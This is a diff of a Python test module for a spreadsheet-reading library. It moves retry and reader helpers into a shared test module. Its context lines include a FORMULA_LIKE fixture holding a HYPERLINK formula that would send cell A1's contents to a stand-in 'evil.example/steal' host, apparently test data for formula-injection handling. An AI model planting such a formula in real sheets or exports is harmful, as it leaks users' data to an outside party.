@@ -21,10 +21,9 @@ from learnloop.sources import sheets
 from learnloop.workbook import Workbook
 from tests.fixtures.messy import MESSY_TABS
 from tests.fixtures.small import raw_tabs
+from tests.sheet_access import FAST, shared_sheet
+from tests.sheet_access import sheet_reader as make_reader
 from tests.sheets_standin import SheetsStandin
-
-FAST = sheets.RetryPolicy(max_seconds=3, max_attempts=6, first_wait=0.01, max_wait=0.2)
-TIMEOUT = 1.0  # the stand-in's hangs last 2 s
 
 FORMULA_LIKE = {
     "artifact": '=HYPERLINK("https://evil.example/steal?c="&A1,"Open the deck")',
@@ -35,21 +34,13 @@ FORMULA_LIKE = {
 }
 
 
-def make_reader(standin: SheetsStandin, account: dict[str, str], policy: sheets.RetryPolicy = FAST,
-                ) -> sheets.SheetReader:
-    access = sheets.Access(service_account=account, base_url=standin.base_url, timeout=(TIMEOUT, TIMEOUT))
-    return sheets.SheetReader(access, policy)
-
-
 @pytest.fixture
 def reader(sheets_standin: SheetsStandin, standin_service_account: dict[str, str]) -> sheets.SheetReader:
     return make_reader(sheets_standin, standin_service_account)
 
 
 def add_writable(standin: SheetsStandin, account: dict[str, str], tabs: dict[str, Any], **kwargs: Any) -> str:
-    sid = standin.add_spreadsheet(tabs, **kwargs)
-    standin.share(sid, account["client_email"], "writer")
-    return sid
+    return shared_sheet(standin, account, tabs, role="writer", **kwargs)
 
 
 @pytest.fixture
